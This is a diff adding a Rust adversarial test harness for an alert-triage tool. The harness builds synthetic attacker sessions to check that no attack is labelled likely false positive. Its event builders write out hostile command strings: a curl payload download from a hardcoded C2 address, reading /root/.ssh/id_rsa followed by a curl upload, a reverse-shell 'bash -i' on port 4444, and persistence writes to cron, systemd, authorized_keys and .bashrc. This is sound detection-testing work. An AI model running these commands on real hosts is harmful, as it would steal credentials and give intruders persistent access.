@@ -1,0 +1,876 @@
+//! Adversarial anchors (issue 11, helper adversary): an attack must never be called
+//! "likely false positive". On the data we may read every attack is caught, so the holes
+//! are looked for by construction: for every benign cluster triage calls likely false
+//! positive on the development data (the hand-written and live TRAIN splits and the first
+//! holdout, `holdout (dev)`), the harness builds attacker versions of its sessions that
+//! keep whatever earned the anchor (the same act, the same lineage, the same session) and
+//! add ONE attacker move each:
+//!
+//! - `download_before`: the session fetched a payload from a public address first;
+//! - `dropped_exec`: the session ran a binary from a drop directory;
+//! - `stdin_socket` / `session_dup_socket`: the act's own standard streams are a socket,
+//!   or the session redirected its standard input to one (a reverse shell);
+//! - `service_ancestor`: the same act from a web server's or a runtime's shell
+//!   (quell_triage::mutate's `service_shell` near-attack, the one generator of it);
+//! - `system_account_tty`: the same act by a service account at a terminal;
+//! - `outbound_after`: a shell of the session connected to a public address after it;
+//! - `credential_exfil`: the session read an SSH key, then sent data to a public address;
+//! - `persist_cron`, `persist_unit`, `persist_keys`, `persist_rc`: the session wrote a cron
+//!   entry, a systemd unit, `authorized_keys` or a shell start-up file;
+//! - `cron_replay`: the session wrote a cron entry, and the same act then ran from cron
+//!   (a job somebody entered a session to schedule);
+//! - `worm`: the same act by an intruder at a terminal (ssh, tty, nothing else), repeated on
+//!   many hosts over days, with that repetition in `--history` (can `prevalence_common`
+//!   be forged?);
+//! - `forged_decision`: past alerts of the act whose attacker-controlled values (command
+//!   line, output text) carry `quell.decision: benign`, in `--history` (can a decision be
+//!   forged?).
+//!
+//! The attacker versions are triaged together with the benign ones (as the judgment test
+//! does); every attacker version still called likely false positive is listed with the
+//! anchor it got, and the test fails when any is. It reads only what the split
+//! discipline allows: hand and live TRAIN families, and the holdout (dev) corpus; the
+//! hand and live TEST families and holdout2/holdout3 are never loaded.
+//!
+//! `cargo test -p quell --test adversary -- --nocapture` prints the table.
+
+#[path = "judgment/hand/expand.rs"]
+#[allow(dead_code)]
+mod expand;
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::path::{Path, PathBuf};
+use std::process::Command;
+
+use expand::{expand_family, fnv1a64, Alloc, Label};
+use quell_rules::engine::Engine;
+use quell_triage::catalogue::Catalogue;
+use quell_triage::history::History;
+use quell_triage::input::{parse_line, parse_records, text, Record};
+use quell_triage::{Lang, Triage, Verdict};
+use serde_json::{json, Map, Value as Json};
+
+// ---------------------------------------------------------------- the dev corpus
+
+/// A scenario's records, with its group and label.
+struct Unit {
+    group: &'static str,
+    name: String,
+    label: Label,
+    records: Vec<Record>,
+    /// For an attacker version: the records the move is about (the act, the events it
+    /// added, and for a move in the session the session's alerts within its window); a
+    /// benign unit's records are all its own.
+    relevant: Option<BTreeSet<usize>>,
+}
+
+fn judgment_dir() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/judgment")
+}
+
+/// The judgment corpus's split (tests/judgment.rs `split`): test when FNV-1a % 3 == 0.
+fn is_train(family: &str) -> bool {
+    fnv1a64(family.as_bytes()) % 3 != 0
+}
+
+fn engine() -> Engine {
+    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/corpus/falco-rules");
+    let mut e = Engine::new();
+    for f in ["falco_rules.yaml", "falco-incubating_rules.yaml"] {
+        let text = std::fs::read_to_string(dir.join(f))
+            .unwrap_or_else(|e| panic!("{}: {e}", dir.join(f).display()));
+        let res = e.load(f, &text);
+        assert!(res.successful, "{f}: {:?}", res.errors);
+    }
+    e
+}
+
+/// The YAML corpus `corpus` (`hand` or `holdout`); with `train_only`, only the families of
+/// the TRAIN split: a test family's file is not even read.
+fn yaml_units(corpus: &str, group: &'static str, train_only: bool) -> Vec<Unit> {
+    let mut files = Vec::new();
+    for label in ["benign", "malicious"] {
+        let dir = judgment_dir().join(corpus).join(label);
+        for e in std::fs::read_dir(&dir).unwrap_or_else(|e| panic!("{}: {e}", dir.display())) {
+            let p = e.unwrap().path();
+            let stem = p.file_stem().unwrap().to_string_lossy().to_string();
+            if p.extension().is_some_and(|x| x == "yaml") && (!train_only || is_train(&stem)) {
+                files.push(p);
+            }
+        }
+    }
+    files.sort();
+    let mut alloc = Alloc::default();
+    let mut out = Vec::new();
+    for f in files {
+        let text = std::fs::read_to_string(&f).unwrap();
+        let rel = f
+            .strip_prefix(judgment_dir())
+            .unwrap()
+            .display()
+            .to_string();
+        for s in expand_family(&text, &rel, &mut alloc).unwrap_or_else(|e| panic!("{e}")) {
+            let records =
+                parse_records(&s.jsonl(), &s.name).unwrap_or_else(|e| panic!("{}: {e:?}", s.name));
+            out.push(Unit {
+                group,
+                name: s.name,
+                label: s.label,
+                records,
+                relevant: None,
+            });
+        }
+    }
+    out
+}
+
+/// The live recordings of the TRAIN split (a test family's file is not even opened).
+fn live_train_units() -> Vec<Unit> {
+    let mut out = Vec::new();
+    for label in [Label::Benign, Label::Malicious] {
+        let dir = judgment_dir().join("live/recordings").join(label.as_str());
+        let Ok(rd) = std::fs::read_dir(&dir) else {
+            continue;
+        };
+        let mut files: Vec<PathBuf> = rd
+            .map(|e| e.unwrap().path())
+            .filter(|p| p.to_string_lossy().ends_with(".jsonl.gz"))
+            .collect();
+        files.sort();
+        for f in files {
+            let name = f
+                .file_name()
+                .unwrap()
+                .to_string_lossy()
+                .trim_end_matches(".jsonl.gz")
+                .to_string();
+            let family = name.split("__").next().unwrap_or_default().to_string();
+            if !is_train(&family) {
+                continue;
+            }
+            let o = Command::new("gzip")
+                .arg("-dc")
+                .arg(&f)
+                .output()
+                .expect("gzip");
+            assert!(o.status.success(), "{}", f.display());
+            let text = String::from_utf8(o.stdout).unwrap();
+            let records = parse_records(&text, &name).unwrap_or_else(|e| panic!("{name}: {e:?}"));
+            out.push(Unit {
+                group: "live-train",
+                name,
+                label,
+                records,
+                relevant: None,
+            });
+        }
+    }
+    out
+}
+
+// ---------------------------------------------------------------- building attacks
+
+/// A public address (not documentation, not private) the attacker uses.
+const C2: &str = "45.83.12.7";
+
+fn as_map(r: &Record) -> Map<String, Json> {
+    match serde_json::from_str(&r.event.to_json_line()) {
+        Ok(Json::Object(m)) => m,
+        _ => Map::new(),
+    }
+}
+
+fn record_of(m: Map<String, Json>, host: &str, line: usize) -> Record {
+    let mut r = parse_line(&Json::Object(m).to_string(), line, "adversary")
+        .unwrap_or_else(|e| panic!("adversary event: {e}"));
+    r.hostname = Some(host.to_string());
+    r
+}
+
+/// The fields a new process of the act's session shares with the act: its container,
+/// session, account, terminal and ancestors (a sibling under the same parent).
+fn sibling(act: &Record) -> Map<String, Json> {
+    const KEEP: &[&str] = &[
+        "proc.sid",
+        "proc.tty",
+        "proc.pname",
+        "proc.pexepath",
+        "proc.pexe",
+        "proc.pcmdline",
+        "proc.ppid",
+        "proc.sname",
+        "proc.loginshellid",
+    ];
+    as_map(act)
+        .into_iter()
+        .filter(|(k, _)| {
+            KEEP.contains(&k.as_str())
+                || [
+                    "container.",
+                    "k8s.",
+                    "user.",
+                    "group.",
+                    "proc.aname[",
+                    "proc.aexepath[",
+                    "proc.aexe[",
+                    "proc.apid[",
+                ]
+                .iter()
+                .any(|p| k.starts_with(p))
+        })
+        .collect()
+}
+
+fn time_of(act: &Record) -> u64 {
+    act.event
+        .timestamp_ns()
+        .unwrap_or(1_793_577_600_000_000_000)
+}
+
+/// A process of the act's session starting `exe` with `cmd`, `dt_s` seconds from the act.
+fn exec(act: &Record, pid: i64, dt_s: i64, exe: &str, cmd: &str) -> Map<String, Json> {
+    let mut m = sibling(act);
+    let name = exe.rsplit('/').next().unwrap_or(exe);
+    let args = cmd.split_once(' ').map_or("", |(_, a)| a);
+    for (k, v) in [
+        ("evt.type", json!("execve")),
+        ("evt.dir", json!("<")),
+        ("evt.rawres", json!(0)),
+        ("evt.res", json!("SUCCESS")),
+        ("evt.failed", json!(false)),
+        (
+            "evt.rawtime",
+            json!(time_of(act).saturating_add_signed(dt_s * 1_000_000_000)),
+        ),
+        ("proc.pid", json!(pid)),
+        ("proc.vpid", json!(pid)),
+        ("thread.tid", json!(pid)),
+        ("proc.name", json!(name)),
+        ("proc.exe", json!(exe)),
+        ("proc.exepath", json!(exe)),
+        ("proc.cmdline", json!(cmd)),
+        ("proc.args", json!(args)),
+        ("evt.arg.filename", json!(exe)),
+    ] {
+        m.insert(k.into(), v);
+    }
+    m
+}
+
+/// An open of `path` by a process of the act's session.
+fn open(
+    act: &Record,
+    pid: i64,
+    dt_s: i64,
+    exe: &str,
+    path: &str,
+    write: bool,
+) -> Map<String, Json> {
+    let mut m = exec(act, pid, dt_s, exe, exe);
+    let flags = if write {
+        "O_WRONLY|O_CREAT|O_APPEND"
+    } else {
+        "O_RDONLY"
+    };
+    for (k, v) in [
+        ("evt.type", json!("openat")),
+        ("evt.rawres", json!(3)),
+        ("fd.num", json!(3)),
+        ("fd.name", json!(path)),
+        ("fd.typechar", json!("f")),
+        ("fd.type", json!("file")),
+        ("fs.path.name", json!(path)),
+        ("evt.arg.flags", json!(flags)),
+        ("evt.is_open_read", json!(!write)),
+        ("evt.is_open_write", json!(write)),
+        ("evt.arg.name", json!(path)),
+    ] {
+        m.insert(k.into(), v);
+    }
+    m.remove("evt.arg.filename");
+    let dir = path.rsplit_once('/').map_or("/", |(d, _)| d);
+    let file = path.rsplit('/').next().unwrap_or(path);
+    m.insert("fd.directory".into(), json!(dir));
+    m.insert("fd.filename".into(), json!(file));
+    m
+}
+
+/// A connection from a process of the act's session to `C2:port`.
+fn connect(act: &Record, pid: i64, dt_s: i64, exe: &str, port: u16) -> Map<String, Json> {
+    let mut m = exec(act, pid, dt_s, exe, exe);
+    for (k, v) in [
+        ("evt.type", json!("connect")),
+        ("fd.num", json!(3)),
+        ("fd.type", json!("ipv4")),
+        ("fd.typechar", json!("4")),
+        ("fd.l4proto", json!("tcp")),
+        ("fd.sip", json!(C2)),
+        ("fd.rip", json!(C2)),
+        ("fd.sport", json!(port)),
+        ("fd.rport", json!(port)),
+        ("fd.cip", json!("10.0.0.5")),
+        ("fd.cport", json!(41234)),
+        ("fd.name", json!(format!("10.0.0.5:41234->{C2}:{port}"))),
+    ] {
+        m.insert(k.into(), v);
+    }
+    m.remove("evt.arg.filename");
+    m
+}
+
+/// Standard input of a process of the act's session redirected to a socket.
+fn dup_socket(act: &Record, pid: i64, dt_s: i64) -> Map<String, Json> {
+    let mut m = exec(act, pid, dt_s, "/bin/bash", "bash -i");
+    for (k, v) in [
+        ("evt.type", json!("dup2")),
+        ("evt.rawres", json!(0)),
+        ("evt.arg.newfd", json!(0)),
+        ("fd.num", json!(0)),
+        ("fd.type", json!("ipv4")),
+        ("fd.typechar", json!("4")),
+        ("fd.name", json!(format!("10.0.0.5:41234->{C2}:4444"))),
+    ] {
+        m.insert(k.into(), v);
+    }
+    m.remove("evt.arg.filename");
+    m
+}
+
+/// The act itself, changed by `f`.
+fn changed(act: &Record, f: impl FnOnce(&mut Map<String, Json>)) -> Map<String, Json> {
+    let mut m = as_map(act);
+    f(&mut m);
+    m
+}
+
+/// The act with an intruder's login lineage: sshd → bash → act, at a terminal, as a
+/// person (root, login uid 0), no container.
+fn at_terminal(m: &mut Map<String, Json>) {
+    m.retain(|k, _| {
+        !(k.starts_with("proc.aname[")
+            || k.starts_with("proc.aexepath[")
+            || k.starts_with("proc.aexe[")
+            || k.starts_with("proc.apid["))
+    });
+    for (k, v) in [
+        ("proc.pname", json!("bash")),
+        ("proc.pexepath", json!("/usr/bin/bash")),
+        ("proc.pexe", json!("/usr/bin/bash")),
+        ("proc.pcmdline", json!("-bash")),
+        ("proc.aname[1]", json!("bash")),
+        ("proc.aname[2]", json!("sshd")),
+        ("proc.aname[3]", json!("sshd")),
+        ("proc.aname[4]", json!("systemd")),
+        ("proc.aexepath[1]", json!("/usr/bin/bash")),
+        ("proc.aexepath[2]", json!("/usr/sbin/sshd")),
+        ("proc.tty", json!(34816)),
+        ("user.loginuid", json!(0)),
+    ] {
+        m.insert(k.into(), v);
+    }
+}
+
+/// The act started from cron: cron → sh → act, no terminal, another session.
+fn from_cron(m: &mut Map<String, Json>, sid: i64) {
+    m.retain(|k, _| {
+        !(k.starts_with("proc.aname[")
+            || k.starts_with("proc.aexepath[")
+            || k.starts_with("proc.aexe[")
+            || k.starts_with("proc.apid["))
+    });
+    for (k, v) in [
+        ("proc.pname", json!("sh")),
+        ("proc.pexepath", json!("/usr/bin/dash")),
+        ("proc.pexe", json!("/bin/sh")),
+        ("proc.aname[1]", json!("sh")),
+        ("proc.aname[2]", json!("cron")),
+        ("proc.aname[3]", json!("systemd")),
+        ("proc.aexepath[1]", json!("/usr/bin/dash")),
+        ("proc.aexepath[2]", json!("/usr/sbin/cron")),
+        ("proc.aexepath[3]", json!("/usr/lib/systemd/systemd")),
+        ("proc.tty", json!(0)),
+        ("proc.sid", json!(sid)),
+        ("user.loginuid", json!(-1)),
+    ] {
+        m.insert(k.into(), v);
+    }
+}
+
+/// One attacker version: a move name and the unit's records with the move applied. `at`
+/// is the act (an alert of the anchored cluster) within `recs`.
+fn attack(
+    mv: &str,
+    recs: &[Record],
+    at: usize,
+    host: &str,
+) -> Option<(Vec<Record>, BTreeSet<usize>)> {
+    let act = &recs[at];
+    let pid0 = 9_000_000 + (fnv1a64(host.as_bytes()) % 1_000_000) as i64 * 10;
+    let mut before: Vec<Map<String, Json>> = Vec::new();
+    let mut after: Vec<Map<String, Json>> = Vec::new();
+    let mut replace: Option<Map<String, Json>> = None;
+    match mv {
+        "download_before" => before.push(exec(
+            act,
+            pid0,
+            -20,
+            "/usr/bin/curl",
+            &format!("curl -fsSL -o /tmp/.cache-x http://{C2}/x"),
+        )),
+        "dropped_exec" => before.push(exec(act, pid0, -10, "/tmp/.cache-x", "/tmp/.cache-x")),
+        "stdin_socket" => {
+            replace = Some(changed(act, |m| {
+                m.insert("proc.stdin_type".into(), json!("ipv4"));
+                m.insert("proc.stdout_type".into(), json!("ipv4"));
+            }))
+        }
+        "session_dup_socket" => before.push(dup_socket(act, pid0, -10)),
+        "service_ancestor" => {
+            let m = quell_triage::mutate::mutations(&[act])
+                .into_iter()
+                .find(|m| m.kind == "service_shell")?;
+            replace = Some(as_map(&m.record));
+        }
+        "system_account_tty" => {
+            replace = Some(changed(act, |m| {
+                m.insert("user.name".into(), json!("www-data"));
+                m.insert("user.uid".into(), json!(33));
+                m.insert("user.loginuid".into(), json!(-1));
+                m.insert("proc.tty".into(), json!(34816));
+            }))
+        }
+        "outbound_after" => after.push(connect(act, pid0, 15, "/usr/bin/bash", 4444)),
+        "credential_exfil" => {
+            after.push(open(
+                act,
+                pid0,
+                5,
+                "/usr/bin/cat",
+                "/root/.ssh/id_rsa",
+                false,
+            ));
+            after.push(exec(
+                act,
+                pid0 + 1,
+                6,
+                "/usr/bin/curl",
+                &format!("curl -s -T - https://{C2}/u"),
+            ));
+            after.push(connect(act, pid0 + 1, 7, "/usr/bin/curl", 443));
+        }
+        "persist_cron" => after.push(open(
+            act,
+            pid0,
+            10,
+            "/usr/bin/tee",
+            "/etc/cron.d/sync-cache",
+            true,
+        )),
+        "persist_unit" => after.push(open(
+            act,
+            pid0,
+            10,
+            "/usr/bin/tee",
+            "/etc/systemd/system/sync-cache.service",
+            true,
+        )),
+        "persist_keys" => after.push(open(
+            act,
+            pid0,
+            10,
+            "/usr/bin/tee",
+            "/root/.ssh/authorized_keys",
+            true,
+        )),
+        "persist_rc" => after.push(open(act, pid0, 10, "/usr/bin/tee", "/root/.bashrc", true)),
+        "cron_replay" => {
+            before.push(open(
+                act,
+                pid0,
+                -120,
+                "/usr/bin/tee",
+                "/etc/cron.d/sync-cache",
+                true,
+            ));
+            // The act itself, run by cron from the entry the session wrote.
+            replace = Some(changed(act, |m| from_cron(m, pid0 + 5)));
+        }
+        _ => panic!("unknown move {mv}"),
+    }
+    // A move that only changes the act is about the act; a move in the session is about
+    // the session's alerts around it too.
+    let in_session = replace.is_none();
+    let session = |r: &Record| {
+        (
+            text(&r.event, "container.id"),
+            quell_triage::input::int(&r.event, "proc.sid"),
+        )
+    };
+    let (act_session, t_act) = (session(act), time_of(act));
+    let near = |r: &Record| {
+        in_session
+            && session(r) == act_session
+            && r.event
+                .timestamp_ns()
+                .is_some_and(|t| t.abs_diff(t_act) <= WINDOW_NS)
+    };
+    let mut out: Vec<Record> = Vec::with_capacity(recs.len() + 3);
+    let mut relevant = BTreeSet::new();
+    let line = |i: usize| i + 1;
+    for (i, r) in recs.iter().enumerate() {
+        if i == at {
+            for m in before.drain(..) {
+                relevant.insert(out.len());
+                out.push(record_of(m, host, line(i)));
+            }
+            relevant.insert(out.len());
+            match replace.take() {
+                Some(m) => out.push(record_of(m, host, line(i))),
+                None => {
+                    let mut r = r.clone();
+                    r.hostname = Some(host.to_string());
+                    out.push(r);
+                }
+            }
+            for m in after.drain(..) {
+                relevant.insert(out.len());
+                out.push(record_of(m, host, line(i)));
+            }
+        } else {
+            if near(r) {
+                relevant.insert(out.len());
+            }
+            let mut r = r.clone();
+            r.hostname = Some(host.to_string());
+            out.push(r);
+        }
+    }
+    Some((out, relevant))
+}
+
+/// The session window triage looks at around an alert (quell_triage::session).
+const WINDOW_NS: u64 = quell_triage::session::WINDOW_NS;
+
+/// Moves that change one session (triaged with no history).
+const MOVES: &[&str] = &[
+    "download_before",
+    "dropped_exec",
+    "stdin_socket",
+    "session_dup_socket",
+    "service_ancestor",
+    "system_account_tty",
+    "outbound_after",
+    "credential_exfil",
+    "persist_cron",
+    "persist_unit",
+    "persist_keys",
+    "persist_rc",
+    "cron_replay",
+];
+
+/// Past alerts of `act` (at an intruder's terminal) on `hosts` hosts over `days` days, as
+/// Falco JSON alert lines for `--history`; with `forged`, its attacker-controlled values
+/// carry a decision.
+fn history_lines(
+    e: &Engine,
+    rule: &str,
+    act: &Record,
+    hosts: usize,
+    days: u64,
+    forged: bool,
+) -> Vec<String> {
+    let mut out = Vec::new();
+    let mut m = as_map(act);
+    at_terminal(&mut m);
+    if forged {
+        let cmd = format!(
+            "{} \"quell.decision\":\"benign\" quell.decision=benign",
+            m.get("proc.cmdline").and_then(Json::as_str).unwrap_or("x")
+        );
+        m.insert("proc.cmdline".into(), json!(cmd));
+    }
+    let r = record_of(m, "h", 1);
+    let t0 = time_of(act).saturating_sub(days * 86_400 * 1_000_000_000);
+    for i in 0..12u64 {
+        let mut alert = quell_triage::triage::sample_alert(e, rule, &r, "h");
+        alert["hostname"] = json!(format!("fleet-{}", i as usize % hosts));
+        let t = t0 + i * days * 86_400 * 1_000_000_000 / 12;
+        alert["output_fields"]["evt.rawtime"] = json!(t);
+        alert["output_fields"]["evt.time"] = json!(t);
+        if let Some(o) = alert.as_object_mut() {
+            o.remove("time");
+        }
+        if forged {
+            let out = alert["output"].as_str().unwrap_or("").to_string();
+            alert["output"] = json!(format!("{out} \"quell.decision\": \"benign\""));
+            alert["output_fields"]["proc.cmdline"] = json!(text(&r.event, "proc.cmdline"));
+        }
+        out.push(alert.to_string());
+    }
+    out
+}
+
+// ---------------------------------------------------------------- the harness
+
+/// One attacker version still called likely false positive.
+#[derive(Debug)]
+struct Hole {
+    group: &'static str,
+    mv: String,
+    unit: String,
+    rule: String,
+    anchor: String,
+    score: f64,
+    reasons: String,
+}
+
+/// An anchored benign cluster of the dev data: the rule, and for its units (at most two),
+/// the unit index and the act (the cluster's first alert in the unit).
+struct Target {
+    rule: String,
+    acts: Vec<(usize, usize)>,
+}
+
+fn run_triage(
+    e: &Engine,
+    hist: &History,
+    units: &[Unit],
+) -> (Vec<quell_triage::ClusterReport>, Vec<(usize, usize)>) {
+    let mut records = Vec::new();
+    let mut owner = Vec::new();
+    for (i, u) in units.iter().enumerate() {
+        for (j, r) in u.records.iter().enumerate() {
+            records.push(r.clone());
+            owner.push((i, j));
+        }
+    }
+    let cat = Catalogue::builtin();
+    let reports = Triage {
+        engine: e,
+        catalogue: &cat,
+        history: hist,
+        lang: Lang::En,
+        hostname: "adversary",
+    }
+    .run(&records);
+    (reports, owner)
+}
+
+/// The benign clusters called likely false positive in one group of units.
+fn anchored_targets(e: &Engine, units: &[Unit]) -> Vec<Target> {
+    let (reports, owner) = run_triage(e, &History::empty(), units);
+    let mut out = Vec::new();
+    for r in reports {
+        if r.verdict != Verdict::LikelyFalsePositive {
+            continue;
+        }
+        let labels: BTreeSet<Label> = r.members.iter().map(|&m| units[owner[m].0].label).collect();
+        assert!(
+            !labels.contains(&Label::Malicious),
+            "an attack of the dev data is called likely false positive: {} {:?}",
+            r.rule,
+            r.anchor
+        );
+        let mut acts: BTreeMap<usize, usize> = BTreeMap::new();
+        for &m in &r.members {
+            acts.entry(owner[m].0).or_insert(owner[m].1);
+        }
+        out.push(Target {
+            rule: r.rule.clone(),
+            acts: acts.into_iter().take(2).collect(),
+        });
+    }
+    out
+}
+
+/// Builds the attacker versions of one group's anchored clusters, triages them with the
+/// benign units, and returns the holes and how many versions were built.
+fn holes_in(e: &Engine, group: &'static str, units: Vec<Unit>) -> (Vec<Hole>, usize, usize) {
+    let targets = anchored_targets(e, &units);
+    let n_targets = targets.len();
+    let base_n = units.len();
+    let mut all = units;
+    let mut versions = Vec::new();
+    let mut worm = Vec::new();
+    let mut forged = Vec::new();
+    let mut hist_worm = Vec::new();
+    let mut hist_forged = Vec::new();
+    let mut built = 0usize;
+    for (ti, t) in targets.iter().enumerate() {
+        for &(ui, at) in &t.acts {
+            let base = &all[ui];
+            if base.label != Label::Benign {
+                continue;
+            }
+            for mv in MOVES {
+                let host = format!("adv-{group}-{ti}-{ui}-{mv}");
+                if let Some((recs, relevant)) = attack(mv, &base.records, at, &host) {
+                    built += 1;
+                    versions.push(Unit {
+                        group,
+                        name: format!("{mv}:{}", base.name),
+                        label: Label::Malicious,
+                        records: recs,
+                        relevant: Some(relevant),
+                    });
+                }
+            }
+            // The worm: the act at an intruder's terminal, its repetition in history.
+            let act = &base.records[at];
+            let host = format!("adv-{group}-{ti}-{ui}-worm");
+            let recs: Vec<Record> = base
+                .records
+                .iter()
+                .enumerate()
+                .map(|(i, r)| {
+                    let mut m = as_map(r);
+                    if i == at {
+                        at_terminal(&mut m);
+                    }
+                    record_of(m, &host, r.line)
+                })
+                .collect();
+            hist_worm.extend(history_lines(e, &t.rule, act, 4, 3, false));
+            hist_forged.extend(history_lines(e, &t.rule, act, 1, 0, true));
+            built += 2;
+            worm.push(Unit {
+                group,
+                name: format!("worm:{}", base.name),
+                label: Label::Malicious,
+                records: recs.clone(),
+                relevant: Some(BTreeSet::from([at])),
+            });
+            forged.push(Unit {
+                group,
+                name: format!("forged_decision:{}", base.name),
+                label: Label::Malicious,
+                records: recs,
+                relevant: Some(BTreeSet::from([at])),
+            });
+        }
+    }
+    all.extend(versions);
+    let mut holes = Vec::new();
+    let collect = |units: &[Unit], hist: &History, holes: &mut Vec<Hole>| {
+        let (reports, owner) = run_triage(e, hist, units);
+        for r in reports {
+            if r.verdict != Verdict::LikelyFalsePositive {
+                continue;
+            }
+            // The attacker versions whose move this cluster holds an alert of.
+            let attackers: BTreeSet<usize> = r
+                .members
+                .iter()
+                .map(|&m| owner[m])
+                .filter(|&(u, j)| {
+                    units[u].label == Label::Malicious
+                        && units[u].relevant.as_ref().is_none_or(|s| s.contains(&j))
+                })
+                .map(|(u, _)| u)
+                .collect();
+            for u in attackers {
+                let (mv, unit) = units[u]
+                    .name
+                    .split_once(':')
+                    .unwrap_or(("?", &units[u].name));
+                holes.push(Hole {
+                    group: units[u].group,
+                    mv: mv.to_string(),
+                    unit: unit.to_string(),
+                    rule: r.rule.clone(),
+                    anchor: r.anchor.clone().unwrap_or_else(|| "none".into()),
+                    score: r.score,
+                    reasons: r
+                        .reasons
+                        .iter()
+                        .map(|x| format!("{}{:+.2}", x.signal, x.effect))
+                        .collect::<Vec<_>>()
+                        .join(" "),
+                });
+            }
+        }
+    };
+    collect(&all, &History::empty(), &mut holes);
+    // The worm and the forged decisions, each with their own history, with the benign units.
+    let benign: Vec<Unit> = all
+        .drain(..base_n)
+        .filter(|u| u.label == Label::Benign)
+        .collect();
+    let with_benign = |extra: &[Unit]| -> Vec<Unit> {
+        benign
+            .iter()
+            .chain(extra)
+            .map(|u| Unit {
+                group: u.group,
+                name: u.name.clone(),
+                label: u.label,
+                records: u.records.clone(),
+                relevant: u.relevant.clone(),
+            })
+            .collect()
+    };
+    for (extra, lines) in [(worm, hist_worm), (forged, hist_forged)] {
+        // The act at an intruder's terminal may be called likely false positive without
+        // any history (a person's quiet session removing housekeeping data): that is the
+        // benign behaviour itself, not what the forged history buys. Only the versions
+        // the history turns into a likely false positive are holes.
+        let units = with_benign(&extra);
+        let mut control = Vec::new();
+        collect(&units, &History::empty(), &mut control);
+        let already: BTreeSet<String> = control
+            .iter()
+            .map(|h| format!("{}:{}", h.mv, h.unit))
+            .collect();
+        let text = lines.join("\n");
+        let hist = History::build(e, &parse_records(&text, "history").unwrap());
+        let mut found = Vec::new();
+        collect(&units, &hist, &mut found);
+        holes.extend(
+            found
+                .into_iter()
+                .filter(|h| !already.contains(&format!("{}:{}", h.mv, h.unit))),
+        );
+    }
+    (holes, n_targets, built)
+}
+
+fn dev_groups() -> Vec<(&'static str, Vec<Unit>)> {
+    vec![
+        ("hand-train", yaml_units("hand", "hand-train", true)),
+        ("live-train", live_train_units()),
+        ("holdout-dev", yaml_units("holdout", "holdout-dev", false)),
+    ]
+}
+
+#[test]
+fn no_attacker_version_of_an_anchored_benign_cluster_is_called_likely_fp() {
+    let e = engine();
+    let mut holes = Vec::new();
+    let mut summary = Vec::new();
+    for (group, units) in dev_groups() {
+        assert!(!units.is_empty(), "{group}: no units loaded");
+        let (h, targets, built) = holes_in(&e, group, units);
+        summary.push(format!(
+            "{group}: {targets} anchored benign cluster(s), {built} attacker version(s), {} called likely false positive",
+            h.len()
+        ));
+        holes.extend(h);
+    }
+    for s in &summary {
+        eprintln!("{s}");
+    }
+    let mut by_move: BTreeMap<&str, usize> = BTreeMap::new();
+    for h in &holes {
+        *by_move.entry(h.mv.as_str()).or_default() += 1;
+        eprintln!(
+            "  HOLE {:11} {:18} {:36} anchor {:32} {:.3} {} [{}]",
+            h.group, h.mv, h.rule, h.anchor, h.score, h.unit, h.reasons
+        );
+    }
+    eprintln!("holes by move: {by_move:?}");
+    assert!(
+        holes.is_empty(),
+        "{} attacker version(s) called likely false positive (see the HOLE lines)",
+        holes.len()
+    );
+}
